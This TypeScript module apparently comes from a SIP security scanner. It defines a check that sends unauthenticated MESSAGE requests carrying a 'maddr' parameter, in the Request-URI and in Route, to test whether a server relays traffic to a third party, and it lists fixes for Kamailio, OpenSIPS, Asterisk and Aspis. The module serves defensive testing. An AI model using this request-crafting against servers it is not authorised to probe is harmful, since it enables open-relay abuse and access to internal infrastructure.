import { attack } from '../attack.ts'
import { targetRoute } from '../reaching.ts'
import { fromAnybody, relay } from '../relaying.ts'

/** maddr in the Request-URI and in Route: the address that a request is sent to, whatever its host says. */
export const maddrToStranger = attack({
  id: 'maddr-to-stranger',
  entry: 'E13',
  title: 'has the server send requests to a third party named in maddr',
  threats: ['open-relay', 'infrastructure-behind-the-edge'],
  clause: '§3.1, hijacking; §3.3, services for legitimate users only',
  references: ['RFC 3261 §19.1.1', 'RFC 3261 §16.4', 'RFC 3261 §16.5'],
  severity: 'high',
  isIntrusive: false,
  maxMessages: 40,
  needs: [],
  expected: 'What a stranger asks is sent to no third party, whatever its Route and Request-URI say.',
  mending: {
    aspis:
      'On by default: strangers go nowhere but to own users, and only rules let users out (`rules`, `trunks`).',
    kamailio:
      'Reply 403 unless `uri == myself` or `proxy_authorize(…)` proved the caller, and rules let him out. Refuse `maddr` in `$ru` and in Route.',
    opensips:
      'Reply 403 unless `is_myself("$rd")` or `proxy_authorize()` proved the caller, and rules let him out. Refuse `maddr` in `$ru` and in Route.',
    asterisk:
      'A back-to-back user agent calls what its dialplan says: keep strangers (`anonymous` endpoint) out of contexts that dial.',
  },
  run: trial =>
    relay(trial, ({ at }, attacker) => {
      const user = trial.target.accounts[0]?.user ?? 'user'
      const us = targetRoute(trial, attacker).slice(5, -4)
      const hosts = [`${trial.target.domain}:${at.port}`, trial.target.domain, us]
      const uris = hosts.map(host => `sip:${user}@${host};maddr=${at.ip}`)
      const inRoute = `<sip:${trial.target.domain}:${at.port};maddr=${at.ip};lr>`
      return [
        ...uris.flatMap(uri => fromAnybody(trial, { method: 'MESSAGE', uri })),
        ...fromAnybody(trial, {
          method: 'MESSAGE',
          uri: `sip:${user}@${trial.target.domain}`,
          routes: [inRoute],
        }),
      ]
    }),
})
